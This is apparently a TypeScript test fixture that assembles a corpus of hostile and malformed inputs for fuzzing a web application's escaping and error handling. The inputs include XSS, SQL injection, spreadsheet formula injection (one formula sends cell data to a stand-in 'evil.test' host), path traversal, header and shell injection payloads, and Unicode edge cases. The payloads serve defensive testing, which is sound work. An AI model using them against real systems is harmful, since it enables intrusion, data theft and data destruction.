// What hostile, broken and odd input looks like. Every form, address, import column and command is given all of it.
import fc from 'fast-check'

export type Hostile = { readonly name: string; readonly text: string }

/** What a page would do if it took text for markup: none may ever hold this unescaped. */
export const MARK = 'socle_ran'

const markup: Record<string, string> = {
  'a script': `<script>${MARK}()</script>`,
  'an image that fails': `"><img src=x onerror=${MARK}()>`,
  'an attribute': `' autofocus onfocus=${MARK}() x='`,
  'the end of a title': `</title><svg/onload=${MARK}()>`,
  'the end of a script': `</script><script>${MARK}()</script>`,
  'a comment': `--><b ${MARK}>`,
  'an address that runs': `javascript:${MARK}()`,
  'wide brackets': `＜script＞${MARK}()＜/script＞`,
  'a template': `{{constructor.constructor('${MARK}()')()}}\${7*7}<%= 7*7 %>`,
  'markup by entities': `&lt;script&gt;${MARK}()&#60;/script&#62;`,
}

const database: Record<string, string> = {
  'an end of a statement': "'; drop schema population cascade; --",
  'an always true': "' or '1'='1",
  'a sleep': "'||pg_sleep(5)||'",
  'a union': "' union select password from security.staff_credential --",
  'an identifier': '"; drop table x; --',
  'a dollar quote': '$$; select 1; $$',
  'a backslash': "\\'; select 1 --",
  'a pattern for all': '%',
  'a pattern for any letter': '___',
  'a parameter': '$1',
  'text search': 'a:* & !b | (c <-> d)',
}

const spreadsheet: Record<string, string> = {
  'a formula': "=cmd|' /C calc'!A0",
  'a formula by plus': '+1+cmd',
  'a formula by minus': '-2+3+cmd',
  'a formula by at': '@SUM(1+1)',
  'a link': '=HYPERLINK("http://evil.test?x="&A1,"x")',
  'quotes and separators': '";,\t"',
}

const unicode: Record<string, string> = {
  'a right-to-left override': '\u202eelif.exe',
  'isolates left open': '\u2067\u2066ab',
  'no width at all': 'a\u200bb\u200dc\ufeff',
  'a soft hyphen': 'a\u00adb',
  'an accent by itself': 'e\u0301cole',
  'the same in one sign': 'école',
  'letters that look alike': 'Аmina',
  'a pile of accents': `a${'\u0301\u0316'.repeat(60)}`,
  'a family in one sign': '👨‍👩‍👧‍👦',
  'beyond the first plane': '𝒜𝓂𝒾𝓃𝒶 𠮷',
  'a sign that is no letter': '\uffff\ufffe',
  'line ends of Unicode': 'a\u2028b\u2029c\u0085d',
  'a zero byte': 'a\0b',
  'a bell and an escape': 'a\u0007\u001b[31mb',
  'a lone half of a sign': 'a\ud83d',
  'Arabic with marks': 'مُحَمَّد ـــ علي',
  'figures of Arabic': '١٢٣',
  'Turkish letters': 'ıİ',
  'a ligature': 'ﷺ',
  'nothing but spaces': ' \u00a0\u3000 ',
}

const numbers: Record<string, string> = {
  'minus nothing': '-0',
  'not a number': 'NaN',
  'without end': 'Infinity',
  'out of range': '1e309',
  'more than a whole number holds': '9007199254740993',
  'forty digits': '9'.repeat(40),
  'too fine': `0.${'1'.repeat(80)}`,
  'another base': '0x1F',
  'with underscores': '1_000',
  'two points': '1.2.3',
  negative: '-1',
  nothing: 'null',
  truth: 'true',
  'an object': '{"a":1}',
  'a list': '[object Object]',
  'a key of every object': '__proto__',
}

const days: Record<string, string> = {
  'the year nought': '0000-01-01',
  'the last year': '9999-12-31',
  'a day that is none': '2026-02-30',
  'a month that is none': '2026-13-01',
  'before all years': '-0001-01-01',
  'six figures': '+012026-01-01',
  'a month far ahead': '2090-01',
  American: '11/22/2026',
}

const places: Record<string, string> = {
  'up and up': '../../../../etc/passwd',
  'up, coded': '..%2f..%2fetc%2fpasswd',
  'of Windows': '..\\..\\windows\\win.ini',
  'from the root': '/etc/passwd',
  'an address': 'file:///etc/passwd',
  'another site': '//evil.test/x',
  'another site, disguised': '/\\evil.test',
  'a device of Windows': 'CON',
}

const lines: Record<string, string> = {
  'a header': 'x\r\nSet-Cookie: socle=evil\r\n\r\n<b>',
  'a shell': '$(id);`id`|id',
  'a format': '%s%n%x{0}',
  'a directory': '*)(uid=*))(|(uid=*',
  'an empty text': '',
  'ten thousand letters': 'a'.repeat(10_000),
  'five thousand letters of Arabic': 'ع'.repeat(5_000),
}

export const corpus: readonly Hostile[] = Object.entries({
  ...markup,
  ...database,
  ...spreadsheet,
  ...unicode,
  ...numbers,
  ...days,
  ...places,
  ...lines,
}).map(([name, text]) => ({ name, text }))

/** Some of each kind, for what takes long. */
export const fewer: readonly Hostile[] = corpus.filter((_, index) => index % 5 === 0)

/** Any text at all, pieces of the corpus among it. */
export const anyText: fc.Arbitrary<string> = fc
  .array(fc.oneof(fc.constantFrom(...corpus.map(({ text }) => text.slice(0, 40))), fc.string({ unit: 'binary' })), {
    maxLength: 4,
  })
  .map(parts => parts.join(''))

/** Traces of the inside, which nobody outside is ever shown: stacks, statements, places of files, names of tables. */
const INSIDE =
  /\n\s+at |node_modules|\.tsx?:\d|\bsyntax error\b|\bpg_catalog\b|\bviolates\b|\bSQLSTATE\b|relation "|invalid input syntax|\/work\/|\/home\/|ECONN|TypeError|RangeError|ReferenceError|\[object Object\]|\bundefined\b/

/** What of the inside a text shows; undefined where it shows nothing. What was sent itself does not count. */
export function insideShown(text: string, sent = ''): string | undefined {
  const told = sent === '' ? text : text.replaceAll(sent, '')
  return INSIDE.exec(told)?.[0]
}
